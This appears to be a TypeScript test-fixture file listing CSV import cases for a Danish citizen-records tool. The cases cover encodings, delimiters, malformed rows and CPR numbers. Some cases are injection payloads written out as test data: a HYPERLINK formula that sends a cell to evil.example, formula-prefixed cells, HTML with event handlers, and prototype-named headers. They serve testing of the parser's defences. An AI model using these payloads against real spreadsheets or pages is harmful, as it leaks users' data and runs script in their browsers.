import type { ReadCsv } from '../../../src/intake/read-csv.ts';
import { readWhole } from '../../support/csv.ts';
import { decodeText, type DecodedText } from '../../../src/intake/decode-text.ts';
import { bytesOf, type WrittenAs } from '../../support/bytes.ts';

/**
 * Files as they come from spreadsheets and other systems. Left out: C-051 and C-052, since there is no
 * column of dates; C-036, the name of a file, stands with file names.
 */
export type CsvCase = { readonly id: string; readonly what: string; readonly text: string; readonly as?: WrittenAs };

const header = 'sagsbehandler;borger;tro;skift;job\r\n';
const two = 'Ærø;B-1;1,3;0;nej\r\nØster Å;B-2;2,5;1;ja\r\n';
const tabs = (header + two).replaceAll(';', '\t');

export const csvCases = {
  bom: { id: 'C-001', what: 'UTF-8 with its mark', text: header + two, as: 'utf-8 with mark' },
  danishExcel: { id: 'C-002', what: 'windows-1252', text: header + two, as: 'windows-1252' },
  unicodeText: { id: 'C-004', what: 'UTF-16 with tabs', text: tabs, as: 'utf-16le with mark' },
  euro: { id: 'C-006', what: 'windows-1252 with € and a dash', text: `${header}A – B;B-1;1,3;0;1.250 €\r\n`, as: 'windows-1252' },
  comma: { id: 'C-007', what: 'commas and decimal points', text: 'sagsbehandler,borger,tro,skift,job\r\nA,B-1,1.3,0,nej\r\n' },
  oneColumn: { id: 'C-009', what: 'one column with decimal commas', text: 'tro\r\n1,3\r\n2,5\r\n' },
  tab: { id: 'C-011', what: 'tabs', text: tabs },
  bar: { id: 'C-012', what: 'bars', text: (header + two).replaceAll(';', '|') },
  oldMac: { id: 'C-014', what: 'CR alone', text: (header + two).replaceAll('\r\n', '\r') },
  ctrlZ: { id: 'C-016', what: 'Ctrl-Z at the end', text: `${header}${two}\u001a` },
  openQuote: { id: 'C-017', what: 'a quote that is never closed', text: `${header}A;B-1;1,3;0;"nej\r\nA;B-2;2,5;1;ja\r\n` },
  tooMany: { id: 'C-019', what: 'a row with a cell too many', text: `${header}A;B-1;1,3;0;nej;mere\r\nA;B-2;2,5;1;ja\r\n` },
  blank: {
    id: 'C-021',
    what: 'rows without anything',
    text: `${header}\r\nA;B-1;1,3;0;nej\r\n;;;;\r\n   ;;;;\r\nA;B-2;2,5;1;ja\r\n;;;;\r\n`,
  },
  headerOnly: { id: 'C-022', what: 'a header alone', text: header },
  noHeader: { id: 'C-024', what: 'no header', text: two },
  total: { id: 'C-026', what: 'a total in the last row', text: `${header}${two}I alt;;3,8;1;\r\n` },
  twice: { id: 'C-027', what: 'the same header twice', text: 'borger;tro;tro\r\nB-1;1,3;2,2\r\n' },
  builtIn: { id: 'C-029', what: 'names of built-in fields as headers', text: 'borger;__proto__;constructor;toString\r\nB-1;a;b;c\r\n' },
  cpr: { id: 'C-031', what: 'a column of CPR numbers', text: 'cpr;borger\r\n230495-0001;B-1\r\n071188-1001;B-2\r\n' },
  nineDigits: {
    id: 'C-032',
    what: 'CPR numbers without their zero',
    text: 'nr;borger\r\n705315019;B-1\r\n803315019;B-2\r\n209315001;B-3\r\n',
  },
  power: { id: 'C-034', what: 'CPR numbers as powers of ten', text: 'nr;borger\r\n1,50530E+09;B-1\r\n2,30495E+09;B-2\r\n' },
  formulas: { id: 'C-037', what: 'formulas', text: 'borger;tro\r\n"=1+1";+4520304050\r\n@B-3;"\t=1+1"\r\n' },
  link: {
    id: 'C-039',
    what: 'a formula that calls out',
    text: 'borger;tro\r\nB-1;"=HYPERLINK(""https://evil.example/?x=""&A1;""klik"")"\r\n',
  },
  sameId: { id: 'C-054', what: 'the same citizen twice', text: `${header}A;B-1;1,3;0;nej\r\nA;B-1;4,4;0;nej\r\n` },
  html: {
    id: 'C-056',
    what: 'elements in cells and headers',
    text: 'borger;<b onmouseover=window.__pwned=1>x\r\n<img src=x onerror=1>;1\r\n',
  },
  nul: { id: 'C-057', what: 'NUL bytes', text: `${header}A;B-1;1\u0000,3;0;nej\r\n` },
  webPage: {
    id: 'C-059',
    what: 'a table of a web page',
    text: '<html><table><tr><td>B-1</td><td onclick=window.__pwned=1>3</td></tr></table></html>',
  },
} as const satisfies Record<string, CsvCase>;

export function decode({ text, as = 'utf-8' }: CsvCase): DecodedText {
  return decodeText(bytesOf(text, as));
}

/** The file as the import reads it, from its bytes. */
export function read(file: CsvCase): ReadCsv {
  const decoded = decode(file);
  if (decoded.kind !== 'text') throw new Error(`${file.id} is no text: ${decoded.kind}`);
  return readWhole(decoded.text);
}
